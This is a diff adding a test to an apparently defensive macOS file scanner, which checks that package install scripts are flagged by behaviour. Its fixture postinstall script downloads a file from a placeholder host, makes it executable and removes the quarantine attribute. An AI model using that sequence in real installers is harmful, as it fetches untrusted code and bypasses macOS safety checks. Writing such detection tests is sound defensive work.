@@ -60,3 +60,20 @@ def test_applescript_source_and_compiled() -> None:
     assert "macos.applescript" in codes(run_handler(MacCarriers(), compiled, "a.scpt")[0])
     # a note that merely names AppleScript is text, and says nothing
     assert run_handler(MacCarriers(), b"Notes about my scripts.\n", "notes.applescript")[0] == []
+
+
+def test_package_install_scripts_are_judged_by_what_they_do() -> None:
+    script = b"#!/bin/sh\ncurl -fsSL https://update.example.invalid/a -o /tmp/a && chmod +x /tmp/a\n" \
+             b"xattr -d com.apple.quarantine /tmp/a\n"
+    item = Item(path="Setup.pkg/Scripts/Scripts.out/postinstall", name="./postinstall", data=script,
+                type=sniff(script), role="member")
+    assert item.type == "script.sh" and MacCarriers().applies_to(item)
+    found = list(MacCarriers().handle(item, make_context()))
+    assert codes(found) == {"macos.install_script_behavior"}
+    assert found[0].detail == "postinstall: curl -, xattr -d com.apple.quarantine"
+    # a harmless install script, and a shell script of another name, say nothing here
+    calm = Item(path="p.pkg/Scripts/preinstall", name="preinstall", data=b"#!/bin/sh\n/usr/bin/killall Dock\n",
+                type="script.sh", role="member")
+    assert list(MacCarriers().handle(calm, make_context())) == []
+    other = Item(path="x.zip/build.sh", name="build.sh", data=script, type="script.sh", role="member")
+    assert not MacCarriers().applies_to(other)
